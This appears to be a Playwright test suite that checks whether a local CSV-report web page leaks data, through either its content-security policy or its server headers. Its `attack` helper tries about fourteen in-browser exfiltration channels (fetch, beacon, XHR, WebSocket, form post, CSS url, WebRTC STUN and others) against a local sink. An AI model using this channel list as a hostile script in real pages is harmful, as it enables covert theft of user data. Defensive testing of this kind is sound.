import assert from "node:assert/strict";
import { cpSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { pathToFileURL } from "node:url";

import type { Browser, Page } from "playwright-core";

import { type Sink, openSink } from "../support/sink";
import { type Sites, copySites, choose, launch, serve } from "../support/page";

/** A customer that nobody else has: were it seen anywhere, it came from the file. */
const kCanary = "canary-7f3a91c2";
const kFile = `customer,start,amount,currency\n${kCanary},2024-01-01,10,USD\nb,2024-02-01,20,USD\n`;

/** What a script could try, by the path that the sink would then see. */
const kChannels = [
  "fetch",
  "beacon",
  "xhr",
  "image",
  "script",
  "style",
  "socket",
  "events",
  "frame",
  "form",
  "prefetch",
  "css-url",
  "audio",
] as const;

let sites: Sites;
let browser: Browser;
let served: { url: string; close: () => void };
let sink: Sink;
let bare: string;

before(async () => {
  sites = copySites();
  browser = await launch();
  cpSync(
    path.join(sites.real, "holdfast.html"),
    path.join(sites.real, "site/holdfast.html"),
  );
  served = await serve(path.join(sites.real, "site"));
  sink = await openSink();
  bare = path.join(sites.real, "bare.html");
  writeFileSync(
    bare,
    "<!doctype html><title>no policy</title><p>no policy</p>",
  );
});

after(async () => {
  served.close();
  sink.close();
  await browser.close();
});

/** The headers that `_headers` gives every file. */
function headersOfSite(): Record<string, string> {
  const text = readFileSync(path.join(sites.real, "site/_headers"), "utf8");
  const lines =
    /^\/\*\n((?: {2}.+\n)+)/.exec(text)?.[1]?.trimEnd().split("\n") ?? [];
  return Object.fromEntries(
    lines.map((line) => {
      const [name = "", ...value] = line.trim().split(": ");
      return [name, value.join(": ")];
    }),
  );
}

/** Tries every channel from inside the page, as a hostile script would. */
async function attack(page: Page, { url, stun }: Sink): Promise<void> {
  await page.evaluate(
    async ([to, server]) => {
      const tries: Record<string, () => unknown> = {
        fetch: () => fetch(`${to}/fetch`, { mode: "no-cors" }),
        beacon: () => navigator.sendBeacon(`${to}/beacon`, "x"),
        xhr: () => {
          const request = new XMLHttpRequest();
          request.open("GET", `${to}/xhr`);
          request.send();
        },
        image: () => (new Image().src = `${to}/image`),
        script: () => add("script", { src: `${to}/script` }),
        style: () => add("link", { rel: "stylesheet", href: `${to}/style` }),
        socket: () => new WebSocket(`${to.replace("http", "ws")}/socket`),
        events: () => new EventSource(`${to}/events`),
        frame: () => add("iframe", { src: `${to}/frame` }),
        form: () => {
          const form = add("form", {
            action: `${to}/form`,
            method: "post",
            target: "x",
          }) as HTMLFormElement;
          add("iframe", { name: "x" });
          form.submit();
        },
        prefetch: () =>
          add("link", { rel: "prefetch", href: `${to}/prefetch` }),
        "css-url": () =>
          (document.body.style.backgroundImage = `url(${to}/css-url)`),
        audio: () => new Audio(`${to}/audio`).load(),
      };
      function add(name: string, attributes: Record<string, string>): Element {
        const element = document.createElement(name);
        Object.entries(attributes).forEach(([key, value]) =>
          element.setAttribute(key, value),
        );
        document.body.append(element);
        return element;
      }
      for (const attempt of Object.values(tries)) {
        try {
          await Promise.resolve(attempt()).catch(() => {});
        } catch {
          continue;
        }
      }
      if (server) {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: server }] });
        peer.createDataChannel("x");
        await peer.setLocalDescription(await peer.createOffer());
      }
    },
    [url, stun] as const,
  );
  await page.waitForTimeout(1500);
}

describe("nothing leaves", () => {
  for (const [where, address] of [
    ["the site", () => served.url],
    ["the single file over HTTP", () => `${served.url}holdfast.html`],
    [
      "the single file from file://",
      () => pathToFileURL(path.join(sites.real, "holdfast.html")).href,
    ],
  ] as const) {
    test(`${where}: a file is read and no request of any kind is made`, async () => {
      const page = await browser.newPage();
      const requests: string[] = [];
      await page.goto(address());
      page.on("request", (request) => {
        if (!/^(blob|data):/.test(request.url())) {
          requests.push(request.url());
        }
      });
      sink.clear();
      await choose(page, "subscriptions.csv", kFile);
      await page.locator("holdfast-report [data-drawn]").waitFor();
      await page.waitForTimeout(500);
      assert.deepEqual(requests, []);
      assert.deepEqual(sink.hits(), []);
      assert.ok(
        !page.url().includes(kCanary) &&
          !(await page.title()).includes(kCanary),
      );
      const stored = await page.evaluate(async () => ({
        local: localStorage.length,
        session: sessionStorage.length,
        cookies: document.cookie,
        databases: (await indexedDB.databases()).length,
      }));
      assert.deepEqual(stored, {
        local: 0,
        session: 0,
        cookies: "",
        databases: 0,
      });
      await page.close();
    });

    test(`${where}: its policy stops every channel that a policy can stop`, async () => {
      const page = await browser.newPage();
      await page.goto(address());
      sink.clear();
      await attack(page, { ...sink, stun: "" });
      assert.deepEqual(sink.hits(), []);
      await page.close();
    });
  }

  test("the headers of the site shut WebRTC too, which no policy in a page can", async () => {
    const page = await browser.newPage();
    await page.goto(served.url);
    sink.clear();
    await attack(page, sink);
    // What the policy leaves open: the test would see a packet.
    assert.ok(sink.hits().includes("stun"));
    await page.close();
    const guarded = await serve(path.join(sites.real, "site"), headersOfSite());
    const other = await browser.newPage();
    await other.goto(guarded.url);
    await choose(other, "subscriptions.csv", kFile);
    await other.locator("holdfast-report [data-drawn]").waitFor();
    sink.clear();
    await attack(other, sink).catch(() => {});
    assert.deepEqual(sink.hits(), []);
    await other.close();
    guarded.close();
  });

  test("the same attempts arrive where there is no policy, so that the test would see them", async () => {
    const page = await browser.newPage();
    await page.goto(pathToFileURL(bare).href);
    sink.clear();
    await attack(page, sink);
    const seen = new Set(sink.hits());
    const missing = [...kChannels.map((name) => `/${name}`), "stun"].filter(
      (hit) => !seen.has(hit),
    );
    assert.deepEqual(missing, []);
    await page.close();
  });
});
